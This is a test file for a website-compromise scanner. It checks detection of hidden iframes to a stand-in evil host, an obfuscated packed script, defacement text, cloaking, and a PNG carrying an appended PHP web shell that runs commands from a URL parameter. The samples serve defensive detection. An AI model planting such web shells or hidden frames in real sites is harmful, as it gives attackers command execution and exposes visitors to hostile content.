"""Signs of an attack in what was learnt."""

import pytest

from sentinel.core.candidate_scan import (
    file_of,
    scan_beside_file,
    scan_look,
    scan_shown_to_others,
)
from sentinel.core.page import Page
from support.pages import PAGE, changed
from support.values import make_entry, make_page

URL = "http://institute.example/"
OWN = frozenset({"institute.example"})


def served(body: str | bytes, kind: str = "text/html", path: str = "") -> Page:
    data = body.encode() if isinstance(body, str) else body
    return make_page(URL + path, data, headers=(("content-type", kind),))


def codes(page: Page, subject: str = "/") -> list[str]:
    return [one.code for one in scan_look(page, subject, (), OWN)]


def test_an_ordinary_page_has_no_sign() -> None:
    assert codes(served(PAGE)) == []


@pytest.mark.parametrize(
    "frame",
    [
        "<iframe src='//x.evil.example/' width=1 height=1></iframe>",
        "<div style='display:none'><iframe src='//x.evil.example/'></iframe></div>",
        "<object data='https://x.evil.example/a' width='0px'></object>",
    ],
)
def test_a_frame_that_nobody_sees_is_a_sign(frame: str) -> None:
    assert "hidden-frame" in codes(served(changed(("</body>", f"{frame}</body>"))))


def test_a_frame_that_is_seen_or_a_public_service_is_none() -> None:
    for frame in (
        "<iframe src='//x.evil.example/' width=640 height=480></iframe>",
        "<iframe src='https://www.googletagmanager.com/ns.html' width=0 height=0></iframe>",
    ):
        assert "hidden-frame" not in codes(served(changed(("</body>", f"{frame}</body>"))))


def test_a_claim_and_a_disguised_script_are_signs() -> None:
    claim = served(changed(("Welcome to the", "Hacked by night crew,")))
    assert codes(claim)
    disguised = "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))"
    assert "obfuscated-script-file" in codes(served(disguised, "text/javascript"), "/a.js")


def test_a_picture_that_carries_code_is_a_sign() -> None:
    picture = b"\x89PNG\r\n\x1a\n" + b"x" * 40 + b"<?php system($_GET['c']); ?>"
    assert "hidden-server-code" in codes(served(picture, "image/png"), "/a.png")


def test_what_others_are_shown_counts_where_it_is_hostile() -> None:
    spam = served("<title>Hacked</title><h1>Hacked by night crew</h1>")
    found = scan_shown_to_others(served(PAGE), spam, "/", "A search engine", ())
    assert found is not None
    assert (found.code, found.text.split(":")[0]) == (
        "cloaked",
        "A search engine gets another page than a browser",
    )
    edited = served(changed(("Annual report", "Yearly report")))
    assert scan_shown_to_others(served(PAGE), edited, "/", "A search engine", ()) is None


def test_scripts_must_be_their_files_and_pages_may_be_filled_in() -> None:
    script = served("var a = 2;", "text/javascript", "a.js")
    assert scan_beside_file(script, "/a.js", b"var a = 1;") is not None
    assert scan_beside_file(script, "/a.js", b"var a = 2;") is None
    filled = served(changed(("10,482", "10,999")))
    assert scan_beside_file(filled, "/", PAGE.encode()) is None
    hostile = served(changed(("Welcome to the", "Hacked by night crew,")))
    assert scan_beside_file(hostile, "/", PAGE.encode()) is not None
    assert scan_beside_file(hostile, "/", b"<?php echo 1; ?>") is None


def test_the_file_behind_an_address() -> None:
    entries = {path: make_entry(path) for path in ("index.html", "a b.js", "d/index.html")}
    assert file_of("/", entries) == entries["index.html"]
    assert file_of("/a%20b.js", entries) == entries["a b.js"]
    assert file_of("/d/", entries) == entries["d/index.html"]
    assert file_of("/index.html?v=1", entries) is None
    assert file_of("/gone.js", entries) is None
